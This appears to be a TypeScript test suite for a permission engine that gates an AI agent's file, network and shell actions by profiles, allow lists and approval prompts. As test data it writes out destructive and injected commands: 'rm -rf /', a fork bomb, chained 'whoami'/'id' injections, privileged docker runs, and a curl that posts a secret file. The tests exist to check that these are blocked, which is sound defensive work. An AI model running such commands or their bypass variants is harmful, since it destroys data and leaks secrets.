import { mkdirSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { Effect } from "../../src/tool/effects.js";
import { tempDir } from "../support/runtime.js";
import { type Asked, fetches, put, reads, rulesBench, runs, writes } from "./support.js";

const dockerRun: Effect = { action: "docker:run", resource: "nginx", mode: "execute" };

describe("the built-in profiles", () => {
  it.each<[string, Effect, string]>([
    ["readonly_research", reads("/srv/a"), "allow"],
    ["readonly_research", fetches("https://example.com/"), "allow"],
    ["readonly_research", writes("/tmp/a"), "deny"],
    ["readonly_research", { action: "file:delete", resource: "/tmp/a", mode: "write" }, "deny"],
    ["readonly_research", runs("ls"), "deny"],
    ["readonly_research", { action: "git:read", resource: "/srv", mode: "read" }, "deny"],
    ["full_developer", writes("/workspace/src/a.ts"), "allow"],
    ["full_developer", writes("/workspace"), "allow"],
    ["full_developer", writes("/tmp/a"), "allow"],
    ["full_developer", writes("/workspace/.env"), "deny"],
    ["full_developer", writes("/workspace/.ENV"), "deny"],
    ["full_developer", writes("/workspace/secrets/key.pem"), "deny"],
    ["full_developer", writes("/workspaces/x"), "deny"],
    ["full_developer", writes("/etc/passwd"), "deny"],
    ["full_developer", reads("/srv/anything"), "allow"],
    ["full_developer", { action: "env:write", resource: "PATH", mode: "write" }, "deny"],
    ["full_developer", { action: "env:read", resource: "PATH", mode: "read" }, "allow"],
    ["full_developer", runs("ls -la"), "allow"],
    ["full_developer", runs("rm -rf /"), "deny"],
    ["full_developer", runs(":(){ :|:& };:"), "deny"],
    ["full_developer", runs(":(){:|:&};:"), "deny"],
    ["production_deploy", { action: "git:read", resource: "/srv", mode: "read" }, "allow"],
    ["production_deploy", dockerRun, "ask"],
    ["production_deploy", { action: "database:write", resource: "orders", mode: "write" }, "ask"],
    ["production_deploy", runs("ls"), "deny"],
    ["production_deploy", reads("/srv/a"), "deny"],
    ["default", runs("ls"), "allow"],
  ])("%s: %o is %s", async (profile, effect, expected) => {
    const { ask } = await rulesBench("");
    expect(ask({ profile, effects: [effect] }).verdict).toBe(expected);
  });

  it("say it in the words of the book", async () => {
    const { ask } = await rulesBench("");
    expect(ask({ profile: "readonly_research", effects: [writes("/a")] })).toMatchObject({
      rule: "profile:readonly_research/file:write",
      reason: "Permission file:write is denied in the current profile",
    });
    expect(ask({ profile: "full_developer", effects: [writes("/srv/a")] })).toMatchObject({
      rule: "profile:full_developer/restrictions.file:write.allowed_paths",
      reason: "Path /srv/a is outside the allowed write scope",
    });
  });

  it("a profile that does not exist denies everything, also what touches nothing", async () => {
    const { ask } = await rulesBench("");
    expect(ask({ profile: "nope", effects: [] })).toMatchObject({ verdict: "deny", rule: "profile:unknown" });
    expect(ask({ profile: "default+nope", effects: [] }).verdict).toBe("deny");
  });
});

describe("deny beats ask beats allow, over all levels", () => {
  it.each<[string, string, string]>([
    [
      "profile",
      "profiles: {p: {allow: ['*'], deny: ['file:write'], approval_required: ['file:write']}}",
      "deny",
    ],
    ["profile", "profiles: {p: {allow: ['*'], approval_required: ['file:*']}}", "ask"],
    ["global deny", "global: {deny: ['file:write']}\nprofiles: {p: {allow: ['*']}}", "deny"],
    ["global ask", "global: {approval_required: ['*:write']}\nprofiles: {p: {allow: ['*']}}", "ask"],
    ["global allow alone", "global: {allow: ['file:write']}\nprofiles: {p: {allow: []}}", "allow"],
    [
      "global allow under a profile's deny",
      "global: {allow: ['*']}\nprofiles: {p: {deny: ['file:*']}}",
      "deny",
    ],
    ["nobody speaks of it", "profiles: {p: {allow: ['network:*']}}", "deny"],
    ["tool deny", "profiles: {p: {allow: ['*'], tools: {some_tool: deny}}}", "deny"],
    ["tool ask", "profiles: {p: {allow: ['*'], tools: {some_tool: approval_required}}}", "ask"],
    ["tool ask alone", "profiles: {p: {tools: {some_tool: approval_required}}}", "ask"],
    ["tool allow alone", "profiles: {p: {tools: {some_tool: allow}}}", "allow"],
    ["tool allow under a deny", "profiles: {p: {deny: ['file:*'], tools: {some_tool: allow}}}", "deny"],
    ["rule about another tool", "profiles: {p: {allow: ['*'], tools: {other_tool: deny}}}", "allow"],
    ["pattern of tools", "profiles: {p: {allow: ['*'], tools: {'some_*': deny}}}", "deny"],
  ])("%s: %s → %s", async (_what, yaml, expected) => {
    const { ask, cwd, table } = await rulesBench(yaml);
    expect(table.problems).toEqual([]);
    expect(ask({ profile: "p", effects: [writes(join(cwd, "a"))] }).verdict).toBe(expected);
  });

  it("a rule about a tool holds for calls that touch nothing", async () => {
    const { ask } = await rulesBench("global: {tools: {some_tool: {rule: deny, reason: not today}}}");
    expect(ask({ effects: [] })).toMatchObject({ verdict: "deny", reason: "not today" });
    expect(ask({ effects: [], tool: "other" }).verdict).toBe("allow");
  });

  it("a rule in the book's spelling is about the same tool", async () => {
    const { ask } = await rulesBench("global: {tools: {file_write: deny}}");
    expect(ask({ effects: [], tool: "write_file" }).verdict).toBe("deny");
  });

  it("a yes for a session covers the permission, tool or place that was shown, not all a rule is about", async () => {
    const keysOf = async (rules: string, asked: Asked) =>
      (await rulesBench(`profiles: {p: {allow: ['*'], ${rules}}}`)).ask({ profile: "p", ...asked }).grantKeys;
    const cwd = tempDir();
    const look = { effects: [reads(cwd)] };
    expect(await keysOf("approval_required: ['*']", look)).toEqual(["profile:p/file:read"]);
    expect(await keysOf("approval_required: ['*']", { effects: [dockerRun] })).toEqual([
      "profile:p/docker:run",
    ]);
    expect(await keysOf("tools: {'*': approval_required}", look)).toEqual(["profile:p/tools.some_tool"]);
    const closed = "restrictions: {'file:read': {denied_paths: ['**/*.pem']}}";
    const [key] = (await keysOf(closed, look)) ?? [];
    expect(key).toContain(`denied_paths:${cwd}`);
    expect(await keysOf(closed, { effects: [reads("*")] })).toEqual([]);
  });

  it("an ask of a profile is for a person and covers its own rule only", async () => {
    const { ask } = await rulesBench("");
    expect(ask({ profile: "production_deploy", effects: [dockerRun] })).toMatchObject({
      personOnly: true,
      grantKeys: ["profile:production_deploy/docker:run"],
    });
  });
});

describe("several profiles at once", () => {
  it("allow only what each of them allows", async () => {
    const { ask, cwd } = await rulesBench(
      "profiles: {files: {allow: ['file:*']}, web: {allow: ['network:*']}}",
    );
    const write = [writes(join(cwd, "a"))];
    expect(ask({ profile: "files", effects: write }).verdict).toBe("allow");
    expect(ask({ profile: "files+web", effects: write }).verdict).toBe("deny");
    expect(ask({ profile: "default+files", effects: write }).verdict).toBe("allow");
    expect(ask({ profile: "files+readonly_research", effects: write }).verdict).toBe("deny");
  });
});

describe("parameter rules", () => {
  const yaml = `
global:
  tools:
    http_request:
      parameters:
        method: {allow: [GET, HEAD], required: true}
        url: {pattern: "^https://"}
        timeout: {min: 1, max: 60}
        headers.authorization: {deny: [secret]}
        tags: {allow: [a, b]}
        body: {max_length: 5, not_pattern: "DROP"}
`;
  it.each<[string, Record<string, unknown>, string]>([
    ["all kept", { method: "GET", url: "https://x", timeout: 60, tags: ["a", "b"] }, "allow"],
    ["not in the list", { method: "POST" }, "deny"],
    ["required but absent", {}, "deny"],
    ["of another type", { method: ["GET", { toString: "GET" }] }, "deny"],
    ["does not fit", { method: "GET", url: "http://x" }, "deny"],
    ["too much", { method: "GET", timeout: 61 }, "deny"],
    ["too little", { method: "GET", timeout: 0 }, "deny"],
    ["a text for a number", { method: "GET", timeout: "7" }, "deny"],
    ["nested and denied", { method: "GET", headers: { authorization: "secret" } }, "deny"],
    ["nested and fine", { method: "GET", headers: { authorization: "other" } }, "allow"],
    ["one of a list", { method: "GET", tags: ["a", "c"] }, "deny"],
    ["too long", { method: "GET", body: "123456" }, "deny"],
    ["a denied pattern", { method: "GET", body: "DROP" }, "deny"],
  ])("%s", async (_what, args, expected) => {
    const { ask, table } = await rulesBench(yaml);
    expect(table.problems).toEqual([]);
    expect(ask({ tool: "http_request", args, effects: [fetches("https://x")] }).verdict).toBe(expected);
  });
});

describe("restrictions", () => {
  const restricted = (permission: string, body: string) =>
    rulesBench(`profiles: {p: {allow: ['*'], restrictions: {'${permission}': {${body}}}}}`);

  it.each<[string, string, Effect, string]>([
    ["network:*", "allowed_hosts: [example.com]", fetches("https://example.com/x"), "allow"],
    ["network:*", "allowed_hosts: [example.com]", fetches("https://EXAMPLE.com./x"), "allow"],
    ["network:*", "allowed_hosts: [example.com]", fetches("https://api.example.com/"), "allow"],
    ["network:*", "allowed_hosts: ['*.example.com']", fetches("https://example.com/"), "deny"],
    ["network:*", "allowed_hosts: [example.com]", fetches("https://example.com.evil.org/"), "deny"],
    ["network:*", "allowed_hosts: [example.com]", fetches("https://example.com@evil.org/"), "deny"],
    ["network:*", "allowed_hosts: [example.com]", fetches("not a url"), "deny"],
    ["network:*", "allowed_hosts: [example.com]", fetches("*"), "deny"],
    ["network:*", "denied_hosts: [evil.org]", fetches("https://a.evil.org/"), "deny"],
    ["network:*", "denied_hosts: [evil.org]", fetches("https://example.com/"), "allow"],
    ["network:*", "denied_hosts: [evil.org]", fetches("*"), "ask"],
    ["network:*", "denied_hosts: ['*.bücher.example:443']", fetches("https://a.bücher.example/"), "deny"],
    [
      "network:*",
      `allowed_hosts: ['${"*a".repeat(12)}b']`,
      // A matcher that tries every way would not come to an end here.
      fetches(`https://${`${"a".repeat(60)}.`.repeat(4)}example/`),
      "deny",
    ],
    ["terminal:execute", "allowed_commands: ['git *', ls]", runs("git status"), "allow"],
    ["terminal:execute", "allowed_commands: ['git *', ls]", runs("/usr/bin/git status"), "allow"],
    ["terminal:execute", "allowed_commands: ['git *', ls]", runs("git log 2>&1 | ls"), "allow"],
    ["terminal:execute", "allowed_commands: ['git *', ls]", runs("bash -c 'git status'"), "allow"],
    ["terminal:execute", "allowed_commands: ['git *', ls]", runs("ls -la"), "deny"],
    ["terminal:execute", "allowed_commands: ['git *', ls]", runs("git status; whoami"), "deny"],
    ["terminal:execute", "allowed_commands: ['git *', ls]", runs("git log $(whoami)"), "deny"],
    ["terminal:execute", "allowed_commands: ['git *', ls]", runs("git log > out"), "deny"],
    ["terminal:execute", "allowed_commands: ['git *', ls]", runs("./git status"), "deny"],
    ["terminal:execute", "allowed_commands: ['git *', ls]", runs("/tmp/x/git status"), "deny"],
    ["terminal:execute", "allowed_commands: ['git *', ls]", runs("GIT_PAGER=x git log"), "deny"],
    ["terminal:execute", "allowed_commands: ['git *', ls]", runs("*"), "deny"],
    ["terminal:execute", "allowed_commands: []", runs("ls"), "deny"],
    ["docker:run", "environments: [docker]", dockerRun, "deny"],
    ["docker:run", "environments: [local]", dockerRun, "allow"],
    ["file:read", "allowed_paths: [/srv/**]", reads("*"), "deny"],
    ["file:read", "denied_paths: [/srv/x]", reads("*"), "ask"],
    ["*", "allowed_paths: [/srv/**]", fetches("https://example.com/"), "allow"],
    ["*", "allowed_paths: [/srv/**]", reads("/etc/hosts"), "deny"],
    ["git:read", "allowed_paths: [/srv/**]", { action: "git:read", resource: "repo", mode: "read" }, "deny"],
    [
      "git:read",
      "allowed_paths: [/srv/**]",
      { action: "git:read", resource: "/srv/r", mode: "read" },
      "allow",
    ],
  ])("%s {%s}: %o is %s", async (permission, body, effect, expected) => {
    const { ask, table } = await restricted(permission, body);
    expect(table.problems).toEqual([]);
    expect(ask({ profile: "p", effects: [effect] }).verdict).toBe(expected);
  });

  it.each<[string, readonly string[], readonly string[]]>([
    [
      "every command must be in the list, whatever carries it",
      [
        "ls x",
        "bash -c 'ls x'",
        "bash -lc 'ls x | cat'",
        "eval 'ls x'",
        "timeout 5 ls x",
        "/bin/ls x 2>/dev/null",
      ],
      [
        "bash -c 'ls x; id'",
        "eval 'ls x; id'",
        "watch 'ls x; id'",
        "watch 'ls x'",
        "timeout 5 bash -c 'ls x; id'",
        "bash -c 'ls x && ./evil.sh'",
        "bash -c 'ls > out'",
        "bash -c './ls x'",
        "bash -c 'PATH=. ls x'",
        "ls() { id; }; ls x",
        "echo 'ls x; id' | bash",
        "python3 -c 'import os; os.system(\"ls x\")'",
      ],
    ],
    [
      "what carries a command must not bring anything of its own",
      ["nice -n 5 ls x", "env ls x", "{ ls x; } >/dev/null"],
      [
        "bash --init-file x -c 'ls y'",
        "BASH_ENV=x bash -c 'ls y'",
        "env -C / ls x",
        "env A=1 ls x",
        "npx ls x",
        "script -c 'ls x' out",
        "chroot /m ls x",
        "cat <<< hi",
        "exec ls x > out",
      ],
    ],
    [
      "scripts and unknown words are in no list",
      [],
      [
        "ls x; bash evil.sh",
        "ls x; . ./evil.sh",
        "ls x; source evil.sh",
        "cat x | bash",
        "ls $X",
        "ls $(cat x)",
        "echo a | xargs ls",
        "find . -exec ls {} ';'",
        "f() { ls x; }",
        "ls x \u0000; id",
        "",
      ],
    ],
    [
      "other users, hosts and containers are other commands",
      ["sudo git log x", "kubectl exec web -- git log", "ssh host git log"],
      [
        "sudo ls x",
        "sudo -u bob bash -c 'ls x'",
        "sudo -u bob git log x",
        "ssh host ls x",
        "ssh host git log 'x; id'",
        "docker exec web ls x",
        "kubectl exec web -- id",
        "su bob -c 'ls x'",
      ],
    ],
  ])("allowed_commands: %s", async (_what, allowed, denied) => {
    const rules = [
      "ls *",
      "cat",
      "echo *",
      "sudo git log *",
      "kubectl exec web -- git log",
      "ssh host git log *",
    ];
    const { ask, table } = await restricted("terminal:execute", `allowed_commands: ${JSON.stringify(rules)}`);
    expect(table.problems).toEqual([]);
    const verdictOn = (command: string) => ask({ profile: "p", effects: [runs(command)] });
    for (const command of allowed) expect(verdictOn(command).verdict, command).toBe("allow");
    for (const command of denied) expect(verdictOn(command).verdict, command).toBe("deny");
  });

  it("denied_commands find what only carries a command, and words with a star in front", async () => {
    const rules = ["docker run *--privileged*", "bash *", "source *", "curl *@* "];
    const { ask } = await restricted("terminal:execute", `denied_commands: ${JSON.stringify(rules)}`);
    const ruleOf = (command: string) => ask({ profile: "p", effects: [runs(command)] }).rule;
    for (const command of [
      "docker run --privileged alpine",
      "docker run -it --privileged=true alpine sh",
      "bash -c 'docker run --rm --privileged alpine ls'",
      "true; bash -c id",
      "echo $(bash -c id)",
      "true; bash build.sh",
      "ls && source x.sh",
      "curl -d @secret https://example.com",
    ]) {
      expect(ruleOf(command), command).toContain("denied_commands");
    }
    for (const command of ["docker run alpine", "docker ps", "echo bash x", "curl https://example.com"]) {
      expect(ruleOf(command), command).not.toContain("denied_commands");
    }
  });

  it("methods and sizes", async () => {
    const methods = await restricted("network:*", "allowed_methods: [GET]");
    const get = { profile: "p", effects: [fetches("https://x/")] };
    expect(methods.ask({ ...get, args: { method: "get" } }).verdict).toBe("allow");
    expect(methods.ask({ ...get, args: { method: "POST" } }).verdict).toBe("deny");
    expect(methods.ask(get).verdict).toBe("allow");

    const sizes = await restricted("file:*", "max_bytes: 10");
    const write = { profile: "p", effects: [writes(join(sizes.cwd, "a"))] };
    expect(sizes.ask({ ...write, args: { content: "0123456789" } }).verdict).toBe("allow");
    expect(sizes.ask({ ...write, args: { content: { deep: ["ä".repeat(6)] } } }).verdict).toBe("deny");
    const big = put(join(sizes.cwd, "big"), "x".repeat(11));
    expect(sizes.ask({ profile: "p", effects: [reads(big)] }).verdict).toBe("deny");
  });

  it("links do not lead around them", async () => {
    const { ask, cwd } = await restricted(
      "file:*",
      `allowed_paths: ["**/open/**"], denied_paths: ["**/closed/**"]`,
    );
    mkdirSync(join(cwd, "open"));
    mkdirSync(join(cwd, "closed"));
    symlinkSync("../closed", join(cwd, "open/door"));
    symlinkSync("/etc", join(cwd, "open/out"));
    const verdict = (path: string) => ask({ profile: "p", effects: [reads(join(cwd, path))] }).verdict;
    expect(verdict("open/a")).toBe("allow");
    expect(verdict("open/door/a")).toBe("deny");
    expect(verdict("open/out/hosts")).toBe("deny");
    expect(verdict("closed/open/a")).toBe("deny");
  });

  it("a closed name that is a link closes what it leads to", async () => {
    const { ask, cwd } = await restricted("file:read", "denied_paths: ['./vault/**']");
    mkdirSync(join(cwd, "real"));
    symlinkSync("real", join(cwd, "vault"));
    const bench = await restricted("file:read", `denied_paths: ['${join(cwd, "vault")}/**']`);
    expect(bench.ask({ profile: "p", effects: [reads(join(cwd, "real/key"))] }).verdict).toBe("deny");
    expect(ask({ profile: "p", effects: [reads(join(cwd, "vault/key"))] }).verdict).toBe("deny");
  });

  it("looking through a folder is refused when a closed place lies in it", async () => {
    const { cwd } = await rulesBench("");
    mkdirSync(join(cwd, "src"));
    mkdirSync(join(cwd, "secrets"));
    const named = await restricted("file:read", `denied_paths: ['${cwd}/secrets/**']`);
    const look = (path: string) => ({ profile: "p", effects: [reads(path)] });
    expect(named.ask(look(cwd)).verdict).toBe("deny");
    expect(named.ask(look(join(cwd, "src"))).verdict).toBe("allow");
    const anywhere = await restricted("file:read", "denied_paths: ['**/*.pem']");
    expect(anywhere.ask(look(cwd)).verdict).toBe("ask");
  });

  it("a place the person has opened is not asked about again, a protected one is", async () => {
    const { ask, home } = await rulesBench(
      "profiles: {p: {allow: ['*'], restrictions: {'file:write': {allowed_paths: ['/srv/**', '~/**']}}}}",
    );
    expect(ask({ effects: [writes("/srv/x/a")] }).verdict).toBe("ask");
    expect(ask({ profile: "p", effects: [writes("/srv/x/a")] }).verdict).toBe("allow");
    for (const path of [
      "/home/nobody/.bashrc",
      "/home/nobody/.ssh/config",
      "/srv/x/.git/hooks/post-commit",
    ]) {
      expect(ask({ profile: "p", effects: [writes(path)] }), path).toMatchObject({
        verdict: "ask",
        rule: "file.write-protected",
        personOnly: true,
      });
    }
    expect(ask({ profile: "p", effects: [writes("/home/nobody/.ssh/authorized_keys")] }).verdict).toBe(
      "deny",
    );
    expect(ask({ profile: "p", effects: [writes(join(home, "config.yaml"))] }).verdict).toBe("deny");
  });
});

describe("danger", () => {
  it("asks with every part, what a session yes covers, and what always would remember", async () => {
    const { ask } = await rulesBench("");
    const asked = ask({ effects: [runs("git status && rm -rf build && git push --force")] });
    expect(asked).toMatchObject({ verdict: "ask", remember: ["rm -rf build", "git push --force"] });
    expect(asked.segments?.map(({ verdict }) => verdict)).toEqual(["safe", "danger", "danger"]);
    expect(asked.grantKeys).toHaveLength(2);
    expect(asked.personOnly).toBeUndefined();
  });

  it("each part needs its own grant, and grants never lift a denial or the hardline", async () => {
    const allowlist = {
      covering: ({ canonical }: { canonical: string }) =>
        canonical.startsWith("rm ") ? { id: `grant of ${canonical}` } : undefined,
    };
    const { ask } = await rulesBench("", { allowlist, denyCommands: ["rm -rf dist"] });
    expect(ask({ effects: [runs("rm -rf build")] })).toMatchObject({
      verdict: "allow",
      grantsUsed: ["grant of rm -rf build"],
    });
    const mixed = ask({ effects: [runs("rm -rf build; git push --force")] });
    expect(mixed).toMatchObject({ verdict: "ask", remember: ["git push --force"] });
    expect(ask({ effects: [runs("rm -rf dist")] }).verdict).toBe("deny");
    expect(ask({ effects: [runs("rm -rf /")] }).verdict).toBe("deny");
    expect(ask({ profile: "readonly_research", effects: [runs("rm -rf build")] }).verdict).toBe("deny");
  });

  it("yolo answers questions and nothing else", async () => {
    const { ask, home } = await rulesBench("global: {deny: ['env:*']}", { yolo: true });
    expect(ask({ effects: [runs("rm -rf build")] })).toMatchObject({
      verdict: "allow",
      rule: expect.stringMatching(/^yolo:/),
    });
    expect(ask({ effects: [writes(join(home, "config.yaml"))] }).verdict).toBe("allow");
    expect(ask({ effects: [runs("rm -rf /")] }).verdict).toBe("deny");
    expect(ask({ effects: [{ action: "env:write", resource: "A", mode: "write" }] }).verdict).toBe("deny");
    expect(ask({ profile: "full_developer", effects: [writes("/srv/a")] }).verdict).toBe("deny");
  });

  it("opening the sandbox is asked of a person: the network once a session, leaving it altogether each time", async () => {
    const { ask } = await rulesBench("");
    const network: Effect = { action: "sandbox:widen", resource: "network", mode: "execute" };
    expect(ask({ effects: [network] })).toMatchObject({
      verdict: "ask",
      personOnly: true,
      grantKeys: ["sandbox.widen:network"],
    });
    const widen: Effect = { action: "sandbox:widen", resource: "off", mode: "execute" };
    expect(ask({ effects: [widen] })).toMatchObject({ verdict: "ask", personOnly: true, grantKeys: [] });
    const both = ask({ effects: [runs("rm -rf build"), widen] });
    expect(both).toMatchObject({ verdict: "ask", personOnly: true, grantKeys: [] });
    expect(both.remember).toBeUndefined();
    expect(ask({ profile: "readonly_research", effects: [widen] }).verdict).toBe("deny");
  });

  it("while settings cannot be read, only reading goes on", async () => {
    const { ask, cwd } = await rulesBench("", { readOnly: true });
    expect(ask({ effects: [reads(join(cwd, "a"))] }).verdict).toBe("allow");
    expect(ask({ effects: [writes(join(cwd, "a"))] })).toMatchObject({
      verdict: "deny",
      rule: "config:broken",
    });
  });
});

describe("what a model is offered", () => {
  it("leaves out what every permission of a tool denies, and nothing else", async () => {
    const { policy } = await rulesBench(
      "profiles: {p: {allow: ['file:*'], deny: ['file:delete'], tools: {banned: deny, blessed: allow}}}",
    );
    const offers = (name: string, permissions: readonly Effect["action"][], profile = "p") =>
      policy.offers({ name, permissions }, { profile });
    expect(offers("write", ["file:write"])).toBe(true);
    expect(offers("mixed", ["file:delete", "file:read"])).toBe(true);
    expect(offers("remove", ["file:delete"])).toBe(false);
    expect(offers("shell", ["terminal:execute"])).toBe(false);
    expect(offers("blessed", ["terminal:execute"])).toBe(true);
    expect(offers("banned", ["file:read"])).toBe(false);
    expect(offers("pure", [])).toBe(true);
    const needing = (everyCallNeeds: readonly Effect["action"][]) =>
      policy.offers(
        { name: "t", permissions: ["file:delete", "file:read"], everyCallNeeds },
        { profile: "p" },
      );
    expect([needing(["file:delete"]), needing(["file:read"])]).toEqual([false, true]);
    expect(offers("shell", ["terminal:execute"], "default")).toBe(true);
    expect(policy.withheld({ name: "remove", permissions: ["file:delete"] }, { profile: "p" })).toContain(
      "profile:p/file:delete",
    );
  });
});

describe("explain", () => {
  it("names every rule with file and line, and the one that decided", async () => {
    const { explain, file } = await rulesBench(
      "profiles:\n  p:\n    allow: ['*']\n    deny:\n      - env:write\n      - file:write\n",
    );
    const { decision, trace } = explain({ profile: "p", effects: [writes("/srv/a")] });
    expect(decision).toMatchObject({ verdict: "deny", rule: "profile:p/file:write" });
    expect(trace).toContainEqual(
      expect.objectContaining({ rule: "profile:p/file:write", outcome: "deny", at: { file, line: 6 } }),
    );
    expect(trace).toContainEqual(
      expect.objectContaining({ rule: "profile:p/env:write", outcome: "no match", at: { file, line: 5 } }),
    );
  });
});

describe("rules about files bind what commands write", () => {
  it.each([
    ["echo a > /srv/x/a", "deny"],
    ["echo a >> /srv/x/a", "deny"],
    ["echo a | tee /srv/x/a", "deny"],
    ["cp a /srv/x/a", "deny"],
    ["mv a /srv/x/a", "deny"],
    ["install -m 644 a /srv/x/a", "deny"],
    ["dd if=a of=/srv/x/a", "deny"],
    ["bash -c 'echo a > /srv/x/a'", "deny"],
    ["cd /srv/x && echo a > ./b; echo a > /srv/x/c", "deny"],
    ["echo a > /dev/../srv/x/a", "deny"],
    ["echo a > /srv/y", "allow"],
    ["cat /srv/x/a", "allow"],
    ["cp /srv/x/a b", "allow"],
    ["echo a > /dev/null", "allow"],
  ])("%s: %s", async (resource, verdict) => {
    const { ask, table } = await rulesBench(
      "profiles: {p: {allow: ['*'], restrictions: {'file:write': {denied_paths: ['/srv/x/**']}}}}",
    );
    expect(table.problems).toEqual([]);
    expect(ask({ profile: "p", effects: [runs(resource)] }).verdict).toBe(verdict);
  });
});
